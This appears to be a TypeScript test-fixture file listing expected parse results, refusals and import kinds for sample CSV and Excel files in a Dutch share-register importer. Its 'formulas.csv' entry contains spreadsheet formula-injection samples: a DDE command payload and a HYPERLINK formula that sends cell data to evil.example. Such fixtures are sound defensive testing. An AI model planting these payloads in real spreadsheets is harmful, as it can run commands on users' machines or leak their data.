import type { FieldName } from '@zegel/core/imports/rows/import-fields'
import type { ImportKind } from '@zegel/core/imports/import-kind'
import type { Cell } from '@zegel/core/parsing/cell'
import type { UnreadableReason } from '../../src/row-batch.ts'

/** The rows of a sheet with something in them, by their numbers. */
type Rows = Readonly<Record<number, readonly Cell[]>>

const PEOPLE: Rows = {
  1: ['Naam', 'E-mail', 'Aantal', 'Prijs'],
  2: ['José Muñoz', 'jose@voorbeeld.nl', '1.000', '€ 12,50'],
  3: ['Zoë van ’t Hof', 'zoe@voorbeeld.nl', '25', '€ 1.234,56'],
}

/** What each text file of this folder holds. */
export const EXPECTED_TEXTS: Readonly<Record<string, Rows>> = {
  'utf-8.csv': PEOPLE,
  'utf-8-mark.csv': PEOPLE,
  'windows-1252.csv': PEOPLE,
  'utf-16-le-mark.csv': PEOPLE,
  'utf-16-le.csv': PEOPLE,
  'utf-16-be-mark.csv': PEOPLE,
  'utf-16-be.csv': PEOPLE,
  'old-mac.csv': PEOPLE,
  'bars.csv': PEOPLE,
  'text.xls': PEOPLE,
  'mixed-encodings.csv': { ...PEOPLE, 4: ['Renée Blöm', 'renee@voorbeeld.nl', '3', '€ 9,00'] },
  'commas.csv': {
    1: ['Name', 'Address', 'Amount'],
    2: ['Vries, Anna de', 'Dam 1, Amsterdam', '1,234.56'],
    3: ['Smit, Bo', 'Plein 2, Gouda', '10'],
  },
  'comma-amounts.csv': {
    1: ['Saldo', 'Koers', 'Inleg'],
    2: ['1,50', '2,50', '3,50'],
    3: ['4,50', '5,50', '6,50'],
    4: ['7,50', '8,50', '9,50'],
  },
  'semicolons-in-cells.csv': {
    1: ['email', 'amount', 'numbering'],
    2: ['a@b.nl', '4', '1-2;5-6'],
    3: ['c@d.nl', '2', '3-4'],
  },
  'named-separator.csv': { 2: ['Naam', 'Nummers'], 3: ['Anna', '1-2;5-6;9-10'] },
  'quotes.csv': {
    1: ['Naam', 'Opmerking'],
    2: ['Anna "de boekhouder" Smit', 'twee\nregels'],
    3: ['Café "De Zon"', '6" buis'],
    4: ['Bo', 'a;b'],
    5: ['met "losse" erin', 'c'],
  },
  'lines-around.csv': {
    1: ['Register van aandeelhouders, per 31-12-2026', '', ''],
    4: ['Naam', 'Aantal', 'Datum'],
    5: ['Anna', '1', '31-12-2026'],
    7: ['Bo', '2'],
    8: ['Cees', '3', '1-1-2027', '', '', ''],
    9: ['Totaal', '6', ''],
  },
  'control-characters.csv': {
    1: ['Naam', 'Aantal'],
    2: ['An\u0007na\u0000', '1\u001f'],
    3: ['\u200bBo\u00a0Smit', '2'],
  },
  'formulas.csv': {
    1: ['Naam', 'Aantal'],
    2: ["=cmd|' /C calc'!A0", '1'],
    3: ['=HYPERLINK("http://evil.example/?x="&A1)', '=1+1'],
    4: ['@SUM(A1)', '-1'],
  },
  'one-column.csv': { 1: ['E-mail'], 2: ['anna@voorbeeld.nl'], 3: ['bo@voorbeeld.nl'] },
  'header-only.csv': { 1: ['Naam', 'E-mail', 'Aantal'] },
}

const SHEETS: Readonly<Record<string, Rows>> = {
  'Deelnemers & co': {
    1: ['Naam', 'Aantal'],
    2: ['Anna de Vries & Zn.', 1000],
    10: [null, null, 'Bel\u0007 en _x0007_'],
  },
  Stand: { 1: ['E-mail', true, '#N/A'] },
  'Werkblad van het systeem': { 1: ['verborgen'] },
}

/** What each workbook of this folder holds, sheet by sheet in the order they are read in. */
export const EXPECTED_WORKBOOKS: Readonly<Record<string, Readonly<Record<string, Rows>>>> = {
  'sheets.xlsx': SHEETS,
  'called-text.csv': SHEETS,
  'merged-header.xlsx': {
    Blad1: { 1: ['Verkoper', null, 'Koper'], 2: ['Naam', 'E-mail', 'Naam', 'E-mail'] },
  },
  'formulas.xlsx': {
    Blad1: { 1: [12.5, '12,5x', null, '=A1*2', '2026-12-31'], 2: [7, '#REF!', 'antwoord'] },
  },
  'dates-1900.xlsx': {
    Blad1: { 1: ['2026-12-31', '2026-12-31', 46_387, 0.5, '2026-12-31T00:00:00'] },
  },
  'dates-1904.xlsx': {
    Blad1: { 1: ['2031-01-01', '2031-01-01', 46_387, 0.5, '2026-12-31T00:00:00'] },
  },
  'other-prefix.xlsx': { Blad1: { 1: ['<a&b>', 2] } },
  'control-characters.xlsx': { Blad1: { 1: ['a\u0000b\u0007cé\u0007'] } },
  'header-only.xlsx': { Blad1: { 1: ['E-mail'] } },
  'excel-2003.xls': {
    Overdrachten: {
      1: [
        'Verkoper',
        'E-mail koper',
        'Aantal',
        'Prijs per stuk',
        'Ingangsdatum',
        'Aandeelnummers',
        'Betaald',
      ],
      2: ['Stichting Molenfonds', 'anna@voorbeeld.nl', 100, 12.5, '2025-12-31', '1-100', true],
      4: [
        'Stichting Molenfonds',
        'José Muñoz <jose@voorbeeld.nl>',
        1_000_000,
        0.01,
        '2026-12-31',
        '201-300; 401',
        false,
      ],
      5: ['Totaal', null, 1_000_100],
    },
    Toelichting: { 1: ['Opmerkingen'], 2: ['Gecontroleerd door de notaris'] },
  },
  'excel-1904.xls': { Mac: { 1: ['E-mail', 'Datum'], 2: ['anna@voorbeeld.nl', '2025-12-31'] } },
}

/** Why each other file of this folder is refused, with the row where there is one to name. */
export const EXPECTED_REFUSALS: Readonly<Record<string, readonly [UnreadableReason, number?]>> = {
  'empty.csv': ['file-empty'],
  'blank.csv': ['file-empty'],
  'nothing-in-it.xlsx': ['file-empty'],
  'open-quote.csv': ['spreadsheet-open-quote', 3],
  'paper.xlsx': ['file-disguised'],
  'document.xlsx': ['file-disguised'],
  'pictures.xlsx': ['file-disguised'],
  'binary.xlsx': ['spreadsheet-other-kind'],
  'open-document.xlsx': ['spreadsheet-other-kind'],
  'page.xls': ['spreadsheet-other-kind'],
  'excel-2003-xml.xls': ['spreadsheet-other-kind'],
  'excel-95.xls': ['spreadsheet-other-kind'],
  'password.xlsx': ['spreadsheet-locked'],
  'password.xls': ['spreadsheet-locked'],
  'truncated.xlsx': ['spreadsheet-damaged'],
  'truncated.xls': ['spreadsheet-damaged'],
  'broken-xml.xlsx': ['spreadsheet-damaged'],
  'missing-sheet.xlsx': ['spreadsheet-damaged'],
}

/** What a file comes to when it is imported: of what kind, how many rows, and the fields it brings. */
type ExpectedImport = readonly [ImportKind, rows: number, fields: readonly FieldName[]]

const OF_PEOPLE: ExpectedImport = ['BalanceRegistrations', 2, ['legal_name', 'email', 'balance']]

/** What each file that can be read comes to when all kinds may be in it; or why there is nothing in it to import. */
export const EXPECTED_IMPORTS: Readonly<Record<string, ExpectedImport | string>> = {
  'utf-8.csv': OF_PEOPLE,
  'utf-8-mark.csv': OF_PEOPLE,
  'windows-1252.csv': OF_PEOPLE,
  'utf-16-le-mark.csv': OF_PEOPLE,
  'utf-16-le.csv': OF_PEOPLE,
  'utf-16-be-mark.csv': OF_PEOPLE,
  'utf-16-be.csv': OF_PEOPLE,
  'old-mac.csv': OF_PEOPLE,
  'bars.csv': OF_PEOPLE,
  'text.xls': OF_PEOPLE,
  'mixed-encodings.csv': ['BalanceRegistrations', 3, ['legal_name', 'email', 'balance']],
  'commas.csv': ['BalanceRegistrations', 2, ['legal_name', 'address', 'balance']],
  'comma-amounts.csv': ['BalanceRegistrations', 3, ['balance']],
  'semicolons-in-cells.csv': ['BalanceRegistrations', 2, ['email', 'balance', 'numbering']],
  'named-separator.csv': ['BalanceRegistrations', 1, ['legal_name', 'numbering']],
  'quotes.csv': ['JuridicalPersons', 4, ['legal_name']],
  'lines-around.csv': ['BalanceRegistrations', 3, ['legal_name', 'balance', 'effective_date']],
  'control-characters.csv': ['BalanceRegistrations', 2, ['legal_name', 'balance']],
  'formulas.csv': ['BalanceRegistrations', 3, ['legal_name', 'balance']],
  'one-column.csv': ['NaturalPersons', 2, ['email']],
  'header-only.csv': 'spreadsheet-without-rows',
  'sheets.xlsx': ['BalanceRegistrations', 2, ['legal_name', 'balance']],
  'called-text.csv': ['BalanceRegistrations', 2, ['legal_name', 'balance']],
  'merged-header.xlsx': 'spreadsheet-without-rows',
  'formulas.xlsx': ['Transactions', 1, []],
  'dates-1900.xlsx': 'spreadsheet-without-header',
  'dates-1904.xlsx': 'spreadsheet-without-header',
  'other-prefix.xlsx': 'spreadsheet-without-header',
  'control-characters.xlsx': 'spreadsheet-without-header',
  'header-only.xlsx': 'spreadsheet-without-rows',
  'excel-2003.xls': [
    'Transactions',
    2,
    ['sender_name', 'receiver_email', 'amount', 'price_per_unit', 'effective_date', 'numbering'],
  ],
  'excel-1904.xls': ['BalanceRegistrations', 1, ['email', 'effective_date']],
}
